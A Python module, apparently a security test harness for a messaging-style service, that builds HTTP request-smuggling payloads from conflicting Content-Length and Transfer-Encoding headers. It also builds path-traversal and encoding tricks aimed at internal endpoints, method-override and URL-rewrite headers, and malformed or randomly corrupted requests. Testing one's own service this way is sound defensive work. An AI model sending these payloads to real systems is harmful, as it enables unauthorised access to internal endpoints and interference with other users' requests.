"""Requests that two readers could read differently, or that want in by another door.

Each attack makes a group named `outer-<mark>` where it is read as one request, and one named
`inner-<mark>` where a part of its body is taken for another request.
"""

import random
from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """`payload` as it goes over the wire; `aims_inside` if its target is an internal door, for
    which it has a token that such a door takes."""

    name: str
    payload: bytes
    aims_inside: bool = False


@dataclass(frozen=True)
class Scene:
    """`token` lets into public doors, `service_token` into internal ones."""

    host: str
    token: str
    service_token: str
    group_id: str
    victim_id: str


# Header lines that say how long a body is, without and with doubt.
LENGTHS = (
    *("Content-Length: {n}", "content-length:{n}", "Content-Length: +{n}", "Content-Length: 0{n}"),
    *(
        "Content-Length: {n} ",
        "Content-Length : {n}",
        "Content-Length: {n}, {n}",
        "Content-Length:",
    ),
    *(
        "Content-Length: 0x{n}",
        "Content-Length: {n}.0",
        "Content-Length: -1",
        "Content-Length: {n};",
    ),
    *("Content-Length: 99999999999999999999", "Content-Length: {n}\r\nContent-Length: {n}"),
    *("Content-Length: {n}\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: {n}"),
    *(
        "Content-Length: {n}, 0",
        "Content_Length: {n}",
        "Content-Length\t: {n}",
        "Content-Length: {n}\x0b",
    ),
    *("X: y\nContent-Length: {n}", "X: y\rContent-Length: {n}", " Content-Length: {n}", ""),
    *("Content-Length: {n}\x00", "Content-Length: \x85{n}", "Content-Length:\r\n {n}"),
)
CODINGS = (
    *("Transfer-Encoding: chunked", "transfer-encoding:chunked", "Transfer-Encoding: CHUNKED"),
    *("Transfer-Encoding : chunked", "Transfer-Encoding\t: chunked", "Transfer-Encoding: xchunked"),
    *("Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked"),
    *("Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked"),
    *(
        "Transfer-Encoding: identity",
        'Transfer-Encoding: "chunked"',
        "Transfer-Encoding: chunked;q=1",
    ),
    *(
        "Transfer-Encoding:\r\n chunked",
        "Transfer-Encoding:\x0bchunked",
        "Transfer-Encoding: chunked\x00",
    ),
    *(
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
        "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    ),
    *(
        "X: y\nTransfer-Encoding: chunked",
        "X: y\rTransfer-Encoding: chunked",
        "Transfer_Encoding: chunked",
    ),
    *("Transfer-Encoding: c\u0068unked\x20\x20", " Transfer-Encoding: chunked", "TE: chunked", ""),
    *("Transfer-Encoding: \x0cchunked", "Transfer-Encoding: chun\u212aed", "Transfer-Encoding:"),
    *("Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", "Trailer: Content-Length"),
    *("Connection: Content-Length\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\t"),
)
INSIDE = (
    *(b"/internal/v1/groups/%g", b"/metrics", b"/readyz", b"/openapi.json"),
    b"/internal/v1/users/%v/disconnect",
)
# How a way in there might look to whoever looks at paths only.
DISGUISES = (
    *(b"%p", b"/.%p", b"/./%p", b"//%p", b"/%p", b"/v1/groups/../..%p", b"/v1/groups/..%2f..%p"),
    *(b"/v1/groups/%2e%2e/%2e%2e%p", b"/v1/groups/..;/..;%p", b"/v1/groups/..\\..%p"),
    *(
        b"/v1/groups/.%00./..%p",
        b"/v1/groups%00%p",
        b"/v1/groups%0d%0a%p",
        b"/v1/groups/%252e%252e%p",
    ),
    *(b"/v1/groups/\xc0\xae\xc0\xae%p", b"/v1/conversations/../..%p", b"/v1/sse/../..%p"),
    *(
        b"/v1/presence/..%2f..%p",
        b"/v1/notifications/%2e%2e%2f%2e%2e%p",
        b"/client/..%p",
        b"/app/..%p",
    ),
    *(b"http://127.0.0.1%p", b"http://notifier:8000%p", b"http://localhost/v1/groups/../..%p"),
    *(b"https://circles%p", b"ftp://circles%p", b"circles%p", b"*%p", b"/v1/groups?/../..%p"),
    *(b"/v1/groups/..%5c..%p", b"/v1/groups/\t..%p", b"/v1/groups#%p", b"/V1/GROUPS/../..%p"),
)
OVERRIDES = (
    *("X-HTTP-Method-Override: {m}", "X-HTTP-Method: {m}", "X-Method-Override: {m}", "Method: {m}"),
    *("X-Original-Method: {m}", "X-Forwarded-Method: {m}"),
)
REWRITES = (
    *(
        "X-Original-URL: {p}",
        "X-Rewrite-URL: {p}",
        "X-Forwarded-Uri: {p}",
        "X-Forwarded-Prefix: {p}",
    ),
    *("X-Forwarded-Path: {p}", "X-Accel-Redirect: {p}", "Forwarded: for=127.0.0.1;host=notifier"),
    *("X-Forwarded-Host: notifier:8000", "Host: notifier:8000", "X-Real-IP: 127.0.0.1"),
    *("Connection: Authorization", "Connection: Host, X-Forwarded-For", "Upgrade: h2c"),
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIA",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13",
    *("Expect: 100-continue", "Expect: 200-ok", "Range: bytes=0-", "Max-Forwards: 0"),
)


def group_request(scene: Scene, name: str) -> bytes:
    """A request like any other, that makes a group."""
    body = b'{"name": "%b"}' % name.encode()
    return head(scene, b"POST /v1/groups HTTP/1.1", f"Content-Length: {len(body)}") + body


def head(scene: Scene, line: bytes, *headers: str, token: str = "") -> bytes:
    lines = (
        f"Host: {scene.host}",
        f"Authorization: Bearer {token or scene.token}",
        "Content-Type: application/json",
        *(each for each in headers if each),
    )
    return b"\r\n".join([line, *(each.encode() for each in lines)]) + b"\r\n\r\n"


def smuggling(scene: Scene, mark: str, lengths: str, coding: str, form: int) -> Attack:
    """One body, whose length two headers may tell differently, with another request in it."""
    inner = group_request(scene, f"inner-{mark}")
    outer = b'{"name": "outer-%b"}' % mark.encode()
    chunked = b"%x\r\n%b\r\n0\r\n\r\n" % (len(outer), outer)
    body = (
        outer,
        chunked,
        outer + inner,
        chunked + inner,
        b"0\r\n\r\n" + inner,
        b"%x;ext=\n\r\n%b\r\n0\r\n\r\n" % (len(outer), outer) + inner,
        b"%x\n%b\n0\n\n" % (len(outer), outer) + inner,
        b"%x\r\n%b\r\n0\r\nContent-Length: 5\r\n\r\n" % (len(outer), outer) + inner,
        b"0%x\r\n%b\r\n00\r\n\r\n" % (len(outer), outer) + inner,
        b"%x\r\n%bXX0\r\n\r\n" % (len(outer), outer) + inner,
        b"1\r\n{\r\n-1\r\n" + inner,
        b"ffffffffffffffff1\r\n" + inner,
    )[form]
    said = (len(outer), len(chunked), len(body), 0, 4)[form % 5]
    line = b"POST /v1/groups HTTP/1.1"
    payload = head(scene, line, lengths.format(n=said), coding) + body
    return Attack(f"{lengths!r} with {coding!r}, body {form}", payload)


def disguised(scene: Scene, method: bytes, path: bytes, disguise: bytes) -> Attack:
    """A way to an internal door."""
    target = path.replace(b"%g", scene.group_id.encode()).replace(b"%v", scene.victim_id.encode())
    line = b"%b %b HTTP/1.1" % (method, disguise.replace(b"%p", target))
    payload = head(scene, line, "Content-Length: 0", token=scene.service_token)
    return Attack(f"{line!r}", payload, aims_inside=True)


def rewritten(scene: Scene, mark: str, header: str) -> Attack:
    """A harmless call, with a header that asks to take it for another."""
    inside = f"/internal/v1/users/{scene.victim_id}/disconnect"
    said = header.format(p=inside, m="DELETE")
    line = b"GET /v1/groups/%b HTTP/1.1" % scene.group_id.encode()
    return Attack(f"{header!r}", head(scene, line, said) + b"")


def odd_lines(scene: Scene, mark: str) -> Iterator[Attack]:
    """Request lines and headers that are none."""
    inner = group_request(scene, f"inner-{mark}")
    body = b'{"name": "outer-%b"}' % mark.encode()
    length = f"Content-Length: {len(body)}"
    for line in (
        *(b"POST /v1/groups", b"POST  /v1/groups HTTP/1.1", b"POST\t/v1/groups\tHTTP/1.1"),
        *(b"POST /v1/groups HTTP/1.1 ", b" POST /v1/groups HTTP/1.1", b"POST /v1/groups HTTP/1.2"),
        *(b"POST /v1/groups HTTP/9.9", b"POST /v1/groups HTTP/2.0", b"POST /v1/groups http/1.1"),
        *(
            b"post /v1/groups HTTP/1.1",
            b"POST\0 /v1/groups HTTP/1.1",
            b"POST /v1/gro\0ups HTTP/1.1",
        ),
        *(
            b"POST /v1/gro ups HTTP/1.1",
            b"POST /v1/gro\nups HTTP/1.1",
            b"\r\n\r\nPOST /v1/groups HTTP/1.1",
        ),
        *(
            b"CONNECT 127.0.0.1:80 HTTP/1.1",
            b"CONNECT notifier:8000 HTTP/1.1",
            b"OPTIONS * HTTP/1.1",
        ),
        *(b"TRACE /v1/groups HTTP/1.1", b"PRI * HTTP/2.0", b"BREW /v1/groups HTTP/1.1", b"", b"\0"),
        *(b"POST /v1/groups?" + b"a" * 40_000 + b" HTTP/1.1", b"X" * 5_000 + b" / HTTP/1.1"),
        *(b"GET /v1/groups HTTP/1.1", b"DELETE /v1/groups HTTP/1.1", b"HEAD /v1/groups HTTP/1.1"),
    ):
        yield Attack(f"line {line[:40]!r}", head(scene, line, length) + body)
        yield Attack(
            f"line {line[:40]!r}, and more", head(scene, line, "Content-Length: 0") + inner
        )
    line = b"POST /v1/groups HTTP/1.1"
    for name, header in {
        "no colon": "Nonsense",
        "an empty name": ": x",
        "a space in the name": "X Y: z",
        "NUL in a value": "X: a\0b",
        "NUL in a name": "X\0: a",
        "a bare CR in a value": "X: a\rb",
        "a bare LF in a value": "X: a\nY: b",
        "a folded line": "X: a\r\n b",
        "another host": "Host: elsewhere.example",
        "an empty host": "Host:",
        "another token": "Authorization: Bearer x",
        "60 KB": "X: " + "a" * 60_000,
        "2,000 of them": "\r\n".join(f"X-{n}: a" for n in range(2000)),
        "not ASCII": "Ｘ: é\x85",
        "DEL": "X: \x7f",
        "JSON twice": "Content-Type: text/plain",
        "gzip": "Content-Encoding: gzip",
        "deflate, twice": "Content-Encoding: identity, deflate",
    }.items():
        yield Attack(f"header with {name}", head(scene, line, length, header) + body)
    for name, payload in {
        "no host": b"GET /v1/groups HTTP/1.1\r\nAuthorization: Bearer x\r\n\r\n",
        "HTTP/0.9": b"GET /v1/groups\r\n\r\n",
        "only line feeds": head(scene, line, length).replace(b"\r\n", b"\n") + body,
        "only carriage returns": head(scene, line, length).replace(b"\r\n", b"\r") + body,
        "TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200),
        "HTTP/2 at once": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + inner,
        "PROXY": b"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n" + group_request(scene, f"outer-{mark}"),
    }.items():
        yield Attack(name, payload)


def made_up(scene: Scene, mark: str, rng: random.Random) -> Attack:
    """One of all of them, by chance."""
    match rng.randrange(8):
        case 0 | 1 | 2 | 3:
            return smuggling(
                scene, mark, rng.choice(LENGTHS), rng.choice(CODINGS), rng.randrange(12)
            )
        case 4 | 5:
            methods = [b"GET", b"PUT", b"POST", b"HEAD", b"DELETE"]
            return disguised(scene, rng.choice(methods), rng.choice(INSIDE), rng.choice(DISGUISES))
        case 6:
            return rewritten(scene, mark, rng.choice([*OVERRIDES, *REWRITES]))
        case _:
            attack = rng.choice(list(odd_lines(scene, mark)))
            if rng.random() < 0.5:
                return attack
            spoilt = bytearray(attack.payload[:4000])
            for _ in range(rng.randint(1, 4)):
                spoilt[rng.randrange(len(spoilt))] = rng.choice(b"\0\t\n\r :;,/.%-0a\x80\xff")
            return Attack(f"{attack.name}, spoilt", bytes(spoilt))
